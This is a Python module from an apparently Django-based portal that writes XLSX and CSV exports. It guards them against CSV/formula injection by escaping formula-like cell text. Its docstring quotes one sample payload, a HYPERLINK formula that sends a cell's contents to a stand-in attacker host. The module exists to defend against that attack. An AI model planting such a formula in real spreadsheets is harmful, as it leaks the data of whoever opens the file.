"""The one way the portal writes a spreadsheet cell: text never starts like a formula.

Every XLSX and CSV the portal hands out goes through this module (a test fails if a module
imports openpyxl's writer or `csv.writer` elsewhere). Names, addresses and other texts come
from imports and forms; a last name such as `=HYPERLINK("http://evil.example/?d="&A5,"x")`
must reach the reader as the text it is, not as a formula that Excel or LibreOffice runs
(OWASP "CSV injection").

A text is *formula-like* when its first character, or its first character after leading
spaces, is one a spreadsheet reads as the start of a formula: `=`, `+`, `-`, `@`, their
full-width forms (`＝`, `＋`, `－`, `＠`: some East-Asian input settings of Excel take them as
`=` …), or when it starts with a tab or a carriage return (which some programs strip before
looking). Such a text is written with a leading apostrophe — the usual escape, which the
spreadsheet shows and which keeps it a text. A text that is a plain number (`-5`, `+12.5`)
is left alone: it can run nothing. Numbers, dates, booleans and empty cells stay typed.

The exchange files of `bill` are a machine contract (exchange.md): their columns are
identifiers, codes, dates and numbers that the portal validated on the way in, so the writer
changes none of them and the files stay byte for byte what the contract says; a value that
would need escaping there (only `visit_id` is free text) is escaped all the same, because a
person opens these files in a spreadsheet too.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable
from typing import IO, Any

import tablib
from django.utils.functional import Promise
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = frozenset("=+-@＝＋－＠")
CONTROL_STARTS = ("\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")
ESCAPE = "'"

TYPED = (int, float, decimal.Decimal, datetime.date, datetime.time, datetime.timedelta)


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read `text` as (the start of) a formula?"""
    if not text:
        return False
    if text.startswith(CONTROL_STARTS):
        return True
    stripped = text.lstrip(" \u00a0\u3000")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return not PLAIN_NUMBER.fullmatch(stripped)


def safe_text(text: str) -> str:
    """`text` as a spreadsheet shows it as text: a formula-like one gets a leading apostrophe."""
    return ESCAPE + text if is_formula_like(text) else text


def safe_cell(value: Any) -> Any:
    """Any value a row may hold, ready for a cell: texts made safe, numbers and dates typed."""
    if value is None or isinstance(value, (bool, *TYPED)):
        return value
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if not isinstance(value, str):
        value = str(value)
    return safe_text(value)


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


# --- XLSX ---------------------------------------------------------------------------------------


def _xlsx_cell(value: Any) -> Any:
    value = safe_cell(value)
    if isinstance(value, str):
        # Control characters openpyxl refuses to write (a stray one in an imported address).
        value = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    return value


class SafeSheet:
    """A write-only sheet whose every row goes through `safe_cell`."""

    def __init__(self, sheet: WriteOnlyWorksheet) -> None:
        self._sheet = sheet

    def append(self, values: Iterable[Any]) -> None:
        self._sheet.append([_xlsx_cell(value) for value in values])


class SafeWorkbook:
    """A write-only openpyxl workbook that only takes safe rows."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)

    def create_sheet(self, title: str) -> SafeSheet:
        return SafeSheet(self._book.create_sheet(title=safe_sheet_title(title)))

    def save(self) -> bytes:
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()


def safe_sheet_title(title: str) -> str:
    """A sheet title Excel accepts: at most 31 characters, none of []:*?/\\ ."""
    return re.sub(r"[\[\]:*?/\\]", " ", str(title))[:31] or "Sheet"


# --- CSV ----------------------------------------------------------------------------------------


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `safe_cell`."""

    def __init__(self, file: IO[str], **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: IO[str], **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(file, **options)


# --- the admin's exports (django-import-export) -------------------------------------------------


class SafeCSV(base_formats.CSV):
    """The admin's CSV export, every cell through `safe_cell`."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> Any:
        return super().export_data(safe_dataset(dataset), **kwargs)


class SafeXLSX(base_formats.XLSX):
    """The admin's XLSX export, every cell through `_xlsx_cell` (typed where it was typed)."""

    def export_data(self, dataset: tablib.Dataset, **kwargs: Any) -> Any:
        return super().export_data(safe_dataset(dataset, cell=_xlsx_cell), **kwargs)


def safe_dataset(dataset: tablib.Dataset, *, cell: Any = safe_cell) -> tablib.Dataset:
    safe = tablib.Dataset(headers=[cell(header) for header in dataset.headers or []])
    safe.title = dataset.title
    for row in dataset:
        safe.append([cell(value) for value in row])
    return safe


# Only these two: the other formats tablib offers (TSV, ODS, XLS, HTML…) would bypass the
# writer, and the exchange format is CSV or XLSX anyway.
EXPORT_FORMATS = [SafeCSV, SafeXLSX]
